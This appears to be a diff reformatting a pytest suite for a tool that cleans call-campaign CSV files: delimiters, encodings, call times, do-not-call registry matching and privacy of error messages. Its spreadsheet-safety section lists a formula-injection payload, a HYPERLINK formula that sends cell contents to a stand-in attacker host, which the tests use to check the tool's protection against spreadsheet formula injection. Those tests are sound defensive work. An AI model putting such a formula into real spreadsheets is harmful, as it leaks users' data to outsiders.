@@ -117,7 +117,8 @@ def test_unclosed_quote_is_an_input_error(bad_line: str, tmp_path: Path) -> None
     ids=["quote-never-closed", "stray-quote-inside-a-field"],
 )
 @pytest.mark.xfail(
-    reason="known gap: the error names the line where the csv module gives up, not where the quote opens",
+    reason="known gap: the error names the line where the csv module gives up, "
+    "not where the quote opens",
     strict=False,
 )
 def test_unbalanced_quote_error_names_the_line_of_the_quote(bad_line: str, tmp_path: Path) -> None:
@@ -131,7 +132,12 @@ def test_unbalanced_quote_error_names_the_line_of_the_quote(bad_line: str, tmp_p
 
 
 def test_quoted_embedded_newlines_are_kept_as_data(tmp_path: Path) -> None:
-    text = 'phone,call_at,note\n0612345678,{s},"first line\nsecond line"\n0612345679,{s},"a\r\nb, with ""quotes"""\n0612345670,{s},plain\n'
+    text = (
+        "phone,call_at,note\n"
+        '0612345678,{s},"first line\nsecond line"\n'
+        '0612345679,{s},"a\r\nb, with ""quotes"""\n'
+        "0612345670,{s},plain\n"
+    )
     campaign = write_csv(tmp_path / "newlines.csv", text.format(s=SLOT))
     clean, _ = assert_no_row_lost(scrub(campaign, tmp_path), 3)
     assert clean.height == 3
@@ -180,7 +186,8 @@ def test_duplicate_column_names_are_an_input_error(column: str, tmp_path: Path) 
 
 
 @pytest.mark.xfail(
-    reason='the outputs\' header is correct CSV ("said ""hi""""); the check reads it back with polars, which keeps doubled quotes in header names',
+    reason='the outputs\' header is correct CSV ("said ""hi""""); the check reads it back '
+    "with polars, which keeps doubled quotes in header names",
     strict=False,
 )
 def test_column_names_with_quotes_and_separators_survive(tmp_path: Path) -> None:
@@ -201,14 +208,19 @@ def test_column_names_with_quotes_and_separators_survive(tmp_path: Path) -> None
 def test_mixed_delimiters_reject_the_odd_row_not_lose_it(
     header_sep: str, row_sep: str, tmp_path: Path
 ) -> None:
-    text = f"phone{header_sep}call_at\n0612345678{header_sep}{SLOT}\n0612345679{row_sep}{SLOT}\n0612345670{header_sep}{SLOT}\n"
+    text = (
+        f"phone{header_sep}call_at\n"
+        f"0612345678{header_sep}{SLOT}\n"
+        f"0612345679{row_sep}{SLOT}\n"
+        f"0612345670{header_sep}{SLOT}\n"
+    )
     campaign = write_csv(tmp_path / "mixed.csv", text)
     clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 3)
     assert row(rejects, 2)["reason"] == "invalid_number"
     assert sorted(clean["source_row"].to_list()) == ["1", "3"]
 
 
-# --------------------------------------------------------------------------- encodings, compression, formats
+# ------------------------------------------------------------------ encodings, compression, formats
 
 
 def test_cp1252_without_encoding_points_at_the_option(tmp_path: Path) -> None:
@@ -346,7 +358,8 @@ def test_truncated_parquet_is_an_input_error(tmp_path: Path) -> None:
 
 # --------------------------------------------------------------------------- call times
 
-# (call_at as written, expected outcome): ("kept", clean call_at, rescheduled) or ("rejected", reason)
+# (call_at as written, expected outcome):
+# ("kept", clean call_at, rescheduled) or ("rejected", reason)
 TIMES = {
     "iso-T": (SLOT, ("kept", SLOT_OUT, "false")),
     "iso-space": ("2026-11-24 10:30:00", ("kept", SLOT_OUT, "false")),
@@ -502,7 +515,8 @@ def test_registry_with_zero_rows_is_used_and_reported(tmp_path: Path) -> None:
 def test_registry_bad_row_in_the_middle_is_counted_not_fatal(tmp_path: Path) -> None:
     registry = write_csv(
         tmp_path / "bloctel.csv",
-        "numero;date_inscription\n0611111111;2025-01-01\n06 12 ZZ 99;2025-01-02\n0612345679;2025-01-03\n",
+        "numero;date_inscription\n"
+        "0611111111;2025-01-01\n06 12 ZZ 99;2025-01-02\n0612345679;2025-01-03\n",
     )
     _, res = _with_registry(tmp_path, registry)
     clean, rejects = assert_no_row_lost(res, 3)
@@ -527,7 +541,7 @@ def test_unreadable_registry_is_an_input_error_naming_it(kind: str, tmp_path: Pa
     assert_input_error(res, registry)
 
 
-# --------------------------------------------------------------------------- property: generated campaigns
+# -------------------------------------------------------------------- property: generated campaigns
 
 GOOD_PHONES = (
     st.integers(10_000_000, 99_999_999)
@@ -637,6 +651,7 @@ def campaigns(draw):
     return ["phone", "call_at", *extras], rows, delimiter, style, corruption
 
 
+@pytest.mark.slow
 @settings(
     max_examples=max(1, int(40 * SCALE)),
     deadline=None,
@@ -672,14 +687,14 @@ def test_generated_campaigns_lose_no_row_and_keep_every_value(campaign) -> None:
         kept = {int(x) for x in clean["source_row"]}
         for i, values in enumerate(rows, start=1):
             out = by_row[i]
-            for name, value in zip(header, values):
+            for name, value in zip(header, values, strict=True):
                 # a kept row's call_at is the final slot; the input is in original_call_at
                 column = "original_call_at" if name == "call_at" and i in kept else name
                 assert (out[column] or "") == value, (i, name, value, out[column])
         assert set(rejects["reason"]) <= set(ALL_REASONS)
 
 
-# --------------------------------------------------------------------------- spreadsheet safety (--excel-safe)
+# ---------------------------------------------------------------- spreadsheet safety (--excel-safe)
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
@@ -753,7 +768,7 @@ def test_excel_safe_leaves_parquet_outputs_unchanged(tmp_path: Path) -> None:
     assert mixed.rejects.equals(plain.rejects)
 
 
-# --------------------------------------------------------------------------- personal data in messages
+# ------------------------------------------------------------------------ personal data in messages
 
 SECRET = "0687412359"  # a number that must never be echoed on stderr
 
@@ -792,8 +807,8 @@ def test_errors_never_quote_phone_numbers(case: str, tmp_path: Path) -> None:
 def test_summary_names_rows_never_numbers(tmp_path: Path) -> None:
     other, short, late, listed = "0687412358", "06 87 41 23 5", "0687412357", "0687412356"
     text = (
-        HEADER
-        + f"{SECRET},{SLOT}\n{SECRET},{SLOT}\n{short},{SLOT}\n{late},01/12/2026\n{listed},{SLOT}\n{other},{SLOT}\n"
+        HEADER + f"{SECRET},{SLOT}\n{SECRET},{SLOT}\n{short},{SLOT}\n"
+        f"{late},01/12/2026\n{listed},{SLOT}\n{other},{SLOT}\n"
     )
     campaign = write_csv(tmp_path / "campaign.csv", text)
     registry = write_csv(tmp_path / "dnc.csv", f"numero\n{listed}\nn/a\n")
